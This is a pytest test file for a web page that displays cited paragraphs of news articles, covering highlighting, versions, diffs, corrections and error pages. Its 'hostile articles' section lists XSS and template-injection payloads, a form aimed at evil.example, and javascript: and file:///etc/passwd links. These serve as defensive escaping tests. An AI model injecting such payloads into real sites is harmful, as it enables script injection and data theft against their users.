"""The permalink page shows the very words that were cited, in their article, and nothing an article says is obeyed."""

import html
import itertools
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import date
from html.parser import HTMLParser
from types import SimpleNamespace
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from indexes.article import Article, Paragraph, Quotation, Speaker
from indexes.library import Library
from indexes.samples import sample_articles
from rag.cite import cite
from tests.standin import StandIn
from ui.message import citation_href
from ui.pages import pages_router

_addresses = itertools.count()

TEXT = "The wall 🌊 will hold, she said. The wall will not be raised."


def story(*paragraphs: Paragraph, **known: Any) -> Article:
    """Return an article of its own, or with the `url` of another a version of that."""
    url = f"https://paper.example/{next(_addresses)}"
    known = {"title": "The wall", "source": "/news/wall.txt", "url": url, **known}
    return Article(paragraphs=paragraphs, **known)


def body(number: int, text: str, speaker: Speaker | None = None) -> Paragraph:
    return Paragraph(text, number=number, quotations=(Quotation(0, len(text), True, speaker),) if speaker else ())


class Page(HTMLParser):
    """What a browser makes of a page: its text, its elements, its links, and what stands in <mark>."""

    def __init__(self, address: str, html: str) -> None:
        super().__init__()
        self.address, self.html = address, html
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.marked: list[str] = []
        self.text = ""
        self._open: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag == "mark":
            self.marked.append("")
        if tag not in {"meta", "link", "img"}:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag, f"</{tag}> closes another element"

    def handle_data(self, data: str) -> None:
        self.text += data
        if "mark" in self._open:
            self.marked[-1] += data

    def links(self) -> list[str]:
        """The addresses of all links, as a browser resolves them."""
        return [urljoin(self.address, known["href"] or "") for tag, known in self.elements if tag == "a"]

    def link(self, part: str) -> str:
        """The one address that holds this."""
        (found,) = {link for link in self.links() if part in link}
        return found

    def classed(self, name: str) -> list[dict[str, str | None]]:
        return [known for _, known in self.elements if name in (known.get("class") or "").split()]

    def words(self) -> str:
        return re.sub(r"\s+", " ", self.text)


Open = Callable[..., Page]


@contextmanager
def client(library: Library) -> Iterator[TestClient]:
    app = FastAPI()
    app.include_router(pages_router(SimpleNamespace(library=library)))
    with TestClient(app, base_url="http://127.0.0.1", follow_redirects=False) as opened:
        yield opened


@pytest.fixture(scope="module")
def kept(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
    """One library for all tests: each adds articles of its own."""
    with Library.open(tmp_path_factory.mktemp("library"), embeddings=StandIn()) as library:
        yield library


@pytest.fixture
def visit(kept: Library) -> Iterator[Open]:
    with client(kept) as opened:

        def visit(address: str, status: int = 200) -> Page:
            answer = opened.get(address)
            assert answer.status_code == status, address
            assert answer.headers["content-type"].startswith("text/html")
            return Page(str(answer.url), answer.text)

        yield visit


# -- what was cited ---------------------------------------------------------------------------------------------------


def test_every_sentence_of_the_samples_is_marked_where_it_was_cited(kept: Library, visit: Open) -> None:
    added = kept.add(sample_articles())
    assert added.outcomes
    for outcome in added.outcomes:
        article = kept.article(str(outcome.id))
        for paragraph in (article.body[0], article.body[-1]):
            assert paragraph.number is not None
            start = paragraph.text.index(" ") + 1
            citation = cite(1, article, paragraph.number, start, len(paragraph.text))
            page = visit(citation_href(citation, "/"))
            assert page.marked == [citation.quote]
            assert [known.get("id") for known in page.classed("nc-cited")] == [f"p{paragraph.number}"]
            assert citation.link in page.links()


def test_offsets_are_code_points(kept: Library, visit: Open) -> None:
    article = story(body(1, TEXT))
    kept.add_article(article)
    start = TEXT.index("will hold")
    assert visit(f"/p/{article.id}/1?at={start}-{start + 9}").marked == ["will hold"]


def test_several_stretches_are_marked_and_those_that_touch_are_one(kept: Library, visit: Open) -> None:
    article = story(body(1, "one two three four five"))
    kept.add_article(article)
    assert visit(f"/p/{article.id}/1?at=14-18&at=0-3&at=3-7").marked == ["one two", "four"]


@pytest.mark.parametrize("at", ["", "5", "9-3", "3-3", "-1-4", "0-99999", "0-9999999999999999999", "a-b", "٠-٣"])
def test_a_stretch_that_is_none_marks_nothing_and_the_paragraph_is_still_set_off(
    kept: Library, visit: Open, at: str
) -> None:
    article = story(body(1, "The wall will hold."))
    kept.add_article(article)
    page = visit(f"/p/{article.id}/1?at={at}")
    assert page.marked == []
    assert len(page.classed("nc-cited")) == 1


def test_an_article_without_a_paragraph_in_its_address_sets_none_off(kept: Library, visit: Open) -> None:
    article = story(body(1, TEXT))
    kept.add_article(article)
    page = visit(f"/p/{article.id}?at=0-3")
    assert page.marked == []
    assert page.classed("nc-cited") == []


# -- what is round it -------------------------------------------------------------------------------------------------


def test_a_page_says_where_the_article_comes_from(kept: Library, visit: Open) -> None:
    facts = {"publisher": "The Paper", "authors": ("Ann Lee", "Bo Ek"), "section": "Coast"}
    article = story(body(1, TEXT), published=date(2025, 7, 9), updated=date(2025, 7, 11), **facts)
    kept.add_article(article)
    page = visit(f"/p/{article.id}")
    for words in ("The wall", "The Paper", "9 July 2025", "updated 11 July 2025", "by Ann Lee, Bo Ek", "Coast"):
        assert words in page.words()
    assert ("time", {"datetime": "2025-07-09"}) in page.elements
    assert sum(tag == "h1" for tag, _ in page.elements) == 1


def test_the_original_opens_in_a_new_tab_that_knows_nothing_of_us(kept: Library, visit: Open) -> None:
    article = story(body(1, TEXT))
    kept.add_article(article)
    (link,) = [known for tag, known in visit(f"/p/{article.id}").elements if known.get("href") == article.url]
    assert (link["target"], link["rel"]) == ("_blank", "noopener noreferrer")


def test_an_inferred_speaker_is_marked_with_the_paragraph_that_names_them(kept: Library, visit: Open) -> None:
    named, inferred = Speaker("Ann Lee", "named", 0.9, 1), Speaker("Ann Lee", "pronoun", 0.9, 1)
    article = story(body(1, "“Yes,” said Ann Lee.", named), body(2, "“No,” she said.", inferred))
    kept.add_article(article)
    page = visit(f"/p/{article.id}")
    assert page.words().count("Ann Lee (inferred, named in ¶ 1)") == 1
    assert page.links().count(f"http://127.0.0.1/p/{article.id}#p1") == 1


def test_a_speaker_inferred_from_the_same_paragraph_is_marked_without_a_link(kept: Library, visit: Open) -> None:
    article = story(body(1, "Ann Lee came late. “Sorry,” she said.", Speaker("Ann Lee", "pronoun", 0.9, 1)))
    kept.add_article(article)
    page = visit(f"/p/{article.id}")
    assert "Ann Lee (inferred, named in this paragraph)" in page.words()
    assert f"http://127.0.0.1/p/{article.id}#p1" not in page.links()


def test_a_doubtful_speaker_is_not_shown(kept: Library, visit: Open) -> None:
    article = story(body(1, "“Yes,” she said.", Speaker("Ann Lee", "pronoun", 0.5, 1)))
    kept.add_article(article)
    assert "Ann Lee" not in visit(f"/p/{article.id}").text


def test_headings_and_captions_are_shown_as_what_they_are_and_not_numbered(kept: Library, visit: Open) -> None:
    heading, caption = Paragraph("Behind the wall", "heading"), Paragraph("The wall in May.", "caption")
    title, text = Paragraph("Over the sea", "title"), (body(1, TEXT), heading, caption, body(2, "It rained."))
    article = story(title, *text, title=title.text)
    kept.add_article(article)
    page = visit(f"/p/{article.id}")
    assert "Behind the wall</h2>" in page.html
    assert "caption The wall in May." in page.words()
    assert re.findall(r"¶ \d", page.text) == ["¶ 1", "¶ 2"]
    assert page.words().count("Over the sea") == 2  # as the title of the page and its h1, not as a paragraph too


def test_every_number_links_to_its_own_paragraph_in_this_version(kept: Library, visit: Open) -> None:
    article = story(body(1, TEXT), body(2, "It rained."))
    kept.add_article(article)
    for address in (f"/p/{article.id}", f"/p/{article.id}/1"):
        there = urlsplit(visit(address).link(f"/p/{article.id}/2?"))
        assert (there.query, there.fragment) == (f"v={article.version}", "p2")
        assert visit(f"{there.path}?{there.query}").classed("nc-cited")[0]["id"] == "p2"


def test_all_own_addresses_stay_below_the_prefix_that_a_proxy_adds(kept: Library) -> None:
    article = story(body(1, TEXT))
    kept.add_article(article)
    with client(kept) as opened:
        for path in (f"p/{article.id}", f"p/{article.id}/1", f"p/{article.id}/9", "p/none", "p/none/1"):
            page = Page(f"https://wiki.example/qa/{path}", opened.get(f"/{path}").text)
            named = [known.get("href") or known.get("src") for _, known in page.elements]
            own = [urljoin(page.address, link) for link in named if link and link.startswith((".", "/", "#"))]
            assert own
            assert all(address.startswith("https://wiki.example/qa/") for address in own)
            assert "https://wiki.example/qa/static/page.css" in own


def test_head_is_answered_as_get_without_the_page(kept: Library) -> None:
    article = story(body(1, TEXT))
    kept.add_article(article)
    with client(kept) as opened:
        answers = [opened.head(f"/p/{article.id}"), opened.head(f"/p/{article.id}/1"), opened.head("/p/none")]
    assert [(answer.status_code, answer.content) for answer in answers] == [(200, b""), (200, b""), (404, b"")]


# -- what to know of it ------------------------------------------------------------------------------------------------

NOTE = Paragraph("Correction: The wall is nine metres high, not eight.", "correction")
WIRE = (
    "The wall of Skarra will cost nine million crowns, the council said on Monday after a long night of talks. "
    "It will stand on the quay, where the sea has come over the stones four times since the autumn."
)


def test_a_correction_stands_at_the_top_and_in_its_place(kept: Library, visit: Open) -> None:
    article = story(body(1, TEXT), NOTE, body(2, "It rained."))
    kept.add_article(article)
    page = visit(f"/p/{article.id}/1")
    assert page.words().count(NOTE.text) == 2
    assert page.words().index(NOTE.text) < page.words().index(TEXT) < page.words().rindex(NOTE.text)
    (place,) = page.classed("nc-correction")
    assert page.link("#c") == f"http://127.0.0.1/p/{article.id}/1#{place['id']}"


def test_an_earlier_version_says_what_was_corrected_since(kept: Library, visit: Open) -> None:
    old = story(body(1, TEXT))
    new = story(body(1, TEXT), NOTE, url=old.url)
    kept.add_article(old)
    kept.add_article(new)
    assert f"since this version {NOTE.text}" in visit(f"/p/{old.id}/1?v={old.version}").words()
    assert "since this version" not in visit(f"/p/{old.id}/1?v={new.version}").words()


def test_an_opinion_is_called_so(kept: Library, visit: Open) -> None:
    for opinion in (True, False):
        article = story(body(1, f"{TEXT} {opinion}"), opinion=opinion)
        kept.add_article(article)
        assert ("Opinion" in visit(f"/p/{article.id}").text) is opinion


def test_a_paragraph_of_a_pdf_has_its_page_beside_it(kept: Library, visit: Open) -> None:
    article = story(Paragraph(TEXT, number=1, page=3), body(2, "It rained."))
    kept.add_article(article)
    words = visit(f"/p/{article.id}").words()
    assert f"¶ 1 p. 3 {TEXT}" in words
    assert "¶ 2 It rained." in words


def test_an_article_leads_to_the_others_of_the_same_text(kept: Library, visit: Open) -> None:
    one, two = (story(body(1, WIRE), publisher=name, title=f"Wall, says {name}") for name in ("The Post", "The Wire"))
    kept.add_article(one)
    assert "The same text" not in visit(f"/p/{one.id}").text
    kept.add_article(two)
    page = visit(f"/p/{one.id}")
    assert "The same text Wall, says The Wire, The Wire" in page.words()
    assert page.link(f"/p/{two.id}") == f"http://127.0.0.1/p/{two.id}"
    kept.remove(one.id)
    kept.remove(two.id)


# -- versions ---------------------------------------------------------------------------------------------------------


def test_an_earlier_version_shows_its_own_words_and_leads_to_them_in_the_newest(kept: Library, visit: Open) -> None:
    old = story(body(1, "It rained."), body(2, TEXT))
    new = story(body(1, "It snowed."), body(2, "At length."), body(3, TEXT), url=old.url)
    kept.add_article(old)
    kept.add_article(new)
    page = visit(f"/p/{old.id}/2?v={old.version}&at=0-8")
    assert "This is an earlier version" in page.words()
    assert "It rained." in page.text
    there = page.link(f"/p/{old.id}/3?v={new.version}&at=0-8")
    newest = visit(there)
    assert newest.marked == page.marked == ["The wall"]
    assert "This is the newest of 2 versions" in newest.words()
    assert newest.link(f"v={old.version}")


def test_it_says_where_the_newest_version_does_not_have_the_cited_words(kept: Library, visit: Open) -> None:
    old = story(body(1, "It rained."))
    new = story(body(1, "It snowed."), url=old.url)
    kept.add_article(old)
    kept.add_article(new)
    assert "does not stand word for word in the newest version" in visit(f"/p/{old.id}/1?v={old.version}").words()


def test_without_a_version_the_newest_is_shown(kept: Library, visit: Open) -> None:
    old = story(body(1, "It rained."))
    new = story(body(1, "It snowed."), url=old.url)
    kept.add_article(old)
    kept.add_article(new)
    page = visit(f"/p/{old.id}/1")
    assert "It snowed." in page.text
    assert "It rained." not in page.text


def test_the_only_version_speaks_of_no_versions(kept: Library, visit: Open) -> None:
    article = story(body(1, TEXT))
    kept.add_article(article)
    assert "ersion" not in visit(f"/p/{article.id}/1?v={article.version}").text


# -- what changed ----------------------------------------------------------------------------------------------------


def versions(kept: Library, *known: Article) -> tuple[Article, ...]:
    for each in known:
        kept.add_article(each)
    return known


def changed(page: Page) -> list[tuple[str, str]]:
    """Return the words that came and went, as a browser shows them."""
    return [(tag, html.unescape(words)) for tag, words in re.findall(r"<(ins|del)>(.*?)</\1>", page.html)]


def test_what_changed_is_shown_word_by_word(kept: Library, visit: Open) -> None:
    texts = ("The wall will be eight metres high, the mayor said.", "It rained.", "Boats leave the harbour by May.")
    old = story(*(body(number, text) for number, text in enumerate(texts, 1)))
    new = story(body(1, texts[0].replace("eight", "nine")), body(2, texts[2]), NOTE, title="A wall", url=old.url)
    versions(kept, old, new)
    page = visit(f"/p/{new.id}?v={new.version}&against={old.version}")
    assert changed(page) == [
        ("del", "The"),
        ("ins", "A"),
        ("del", "eight"),
        ("ins", "nine"),
        ("del", "It rained."),
        ("ins", NOTE.text),
    ]
    assert "1 added, 1 removed, 2 changed." in page.words()
    assert "changed ¶ 1 The wall will be eight nine metres high" in page.words()
    assert page.link("#p2") == f"http://127.0.0.1/p/{new.id}/2?v={old.version}#p2"  # where the paragraph stood


def test_every_version_leads_to_what_changed_in_it(kept: Library, visit: Open) -> None:
    first = story(body(1, "It rained."))
    second, third = (story(body(1, text), url=first.url) for text in ("It snowed.", "It froze."))
    versions(kept, first, second, third)
    newest = visit(f"/p/{first.id}")
    pairs = [(third, second), (second, first)]
    addresses = [f"http://127.0.0.1/p/{first.id}?v={new.version}&against={old.version}" for new, old in pairs]
    assert [link for link in newest.links() if "against" in link] == [addresses[0], *addresses]  # at the top, below
    assert [tag for tag, _ in changed(visit(addresses[1]))] == ["del", "ins"]
    since = f"?v={third.version}&against={first.version}"
    assert any(since in link for link in visit(f"/p/{first.id}?v={first.version}").links())


def test_without_a_version_it_is_the_newest_that_is_compared(kept: Library, visit: Open) -> None:
    old = story(body(1, "It rained."))
    new = story(body(1, "It snowed."), url=old.url)
    versions(kept, old, new)
    assert ("ins", "snowed") in changed(visit(f"/p/{old.id}?against={old.version}"))


def test_nothing_changed_between_a_version_and_itself(kept: Library, visit: Open) -> None:
    article = story(body(1, TEXT))
    versions(kept, article)
    page = visit(f"/p/{article.id}?v={article.version}&against={article.version}")
    assert "nothing that a reader sees" in page.words()


def test_versions_that_are_not_there_have_no_changes(kept: Library, visit: Open) -> None:
    article = story(body(1, TEXT))
    versions(kept, article)
    assert "No such version" in visit(f"/p/{article.id}?against=00000000", 404).text
    assert "No such version" in visit(f"/p/{article.id}?v=00000000&against={article.version}", 404).text
    assert "No such article" in visit("/p/none?against=00000000", 404).text


def test_changed_words_are_never_markup(kept: Library, visit: Open) -> None:
    old = story(body(1, "It rained."), title="x")
    new = story(body(1, HOSTILE[1]), body(2, HOSTILE[0]), title=HOSTILE[2], url=old.url)
    versions(kept, old, new)
    page = visit(f"/p/{old.id}?against={old.version}")
    assert {tag for tag, _ in page.elements}.isdisjoint({"form", "img", "input"})
    assert "alert(1)</script>" in page.text


# -- where there is nothing to show -----------------------------------------------------------------------------------


@pytest.mark.parametrize("number", ["0", "2", "-1", "1.0", "one", "１", "99999999999999999999", "%00", "1%20"])
def test_a_paragraph_that_is_none_gets_a_page_that_leads_to_the_article(
    kept: Library, visit: Open, number: str
) -> None:
    article = story(body(1, TEXT))
    kept.add_article(article)
    page = visit(f"/p/{article.id}/{number}", 404)
    assert "No such paragraph" in page.text
    visit(page.link(f"/p/{article.id}?"))


@pytest.mark.parametrize("article_id", ["000000000000", "%00", "%ff", "'", "<script>", "é"])
def test_an_article_that_is_not_there_gets_a_page_that_leads_on(visit: Open, article_id: str) -> None:
    page = visit(f"/p/{article_id}/1", 404)
    assert "No such article" in page.text
    assert page.link("/library") == "http://127.0.0.1/library"


def test_a_removed_article_is_gone(kept: Library, visit: Open) -> None:
    article = story(body(1, TEXT))
    kept.add_article(article)
    kept.remove(article.id)
    visit(f"/p/{article.id}/1?v={article.version}", 404)


def test_the_beginning_of_an_id_is_no_address(kept: Library, visit: Open) -> None:
    article = story(body(1, TEXT))
    kept.add_article(article)
    visit(f"/p/{article.id[:8]}", 404)


def test_a_version_that_is_not_there_leads_to_the_newest(kept: Library, visit: Open) -> None:
    article = story(body(1, TEXT))
    kept.add_article(article)
    page = visit(f"/p/{article.id}/1?v=00000000", 404)
    assert "No such version" in page.text
    visit(page.link(f"/p/{article.id}?"))


# -- hostile articles -------------------------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "</mark></p></article><img src=x onerror=alert(1)>",
    '"><form action="https://evil.example"><input name=q>',
    "{{ 7 * 7 }} {% raw %} ${7*7}",
    "![](https://evil.example/x.png)",
    "<!-- --> <![CDATA[ ]]> &lt;b&gt; &#106;",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_article_text_is_never_markup(kept: Library, visit: Open, text: str) -> None:
    harmless = story(body(1, "x", Speaker("x", "named", 0.9, 1)), title="x", publisher="x", authors=("x",), section="x")
    known: dict[str, Any] = {"title": text, "publisher": text, "authors": (text,), "section": text, "language": text}
    article = story(body(1, text, Speaker(text, "named", 0.9, 1)), **known)
    kept.add_article(harmless)
    tags = [tag for tag, _ in visit(f"/p/{harmless.id}/1?at=0-1").elements]
    kept.remove(harmless.id)
    kept.add_article(article)
    page = visit(f"/p/{article.id}/1?at=0-{len(text)}")
    assert page.marked == [text]
    assert page.text.count(text) == 7  # page title, headline, publisher, author, section, speaker, paragraph
    assert [tag for tag, _ in page.elements] == tags


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "\tjavascript:x", "//x"]
)
def test_only_web_addresses_become_links(kept: Library, visit: Open, url: str) -> None:
    article = story(body(1, TEXT), url=url)
    kept.add_article(article)
    for address in (f"/p/{article.id}", f"/p/{article.id}/1?at=0-8"):
        assert all(urlsplit(link).hostname == "127.0.0.1" for link in visit(address).links())


def test_what_turns_the_direction_of_writing_is_kept_to_its_own_element(kept: Library, visit: Open) -> None:
    turned = "Ann \N{RIGHT-TO-LEFT OVERRIDE}eeL"
    article = story(
        body(1, turned, Speaker(turned, "named", 0.9, 1)), title=turned, publisher=turned, authors=(turned,)
    )
    kept.add_article(article)
    html = visit(f"/p/{article.id}").html.partition("<body>")[2]
    holders = re.findall(rf"<([^<>]*)>{turned}</(\w+)>", html)
    assert len(holders) == html.count(turned) == 5  # headline, publisher, author, speaker, paragraph
    assert all(end == "bdi" or 'dir="auto"' in start for start, end in holders)


def test_a_long_article_is_one_page(kept: Library, visit: Open) -> None:
    article = story(*(body(number, f"Paragraph {number} says so.") for number in range(1, 401)))
    kept.add_article(article)
    page = visit(f"/p/{article.id}/400?at=10-13")
    assert page.marked == ["400"]
    assert page.text.count("says so.") == 400


def test_no_page_holds_a_script_or_a_style_of_its_own(kept: Library, visit: Open) -> None:
    article = story(body(1, TEXT))
    kept.add_article(article)
    for page in (visit(f"/p/{article.id}/1?at=0-3"), visit("/p/none", 404)):
        assert all(known.get("src") for tag, known in page.elements if tag == "script")
        assert not any(tag == "style" for tag, _ in page.elements)
        assert not any(name == "style" or name.startswith("on") for _, known in page.elements for name in known)
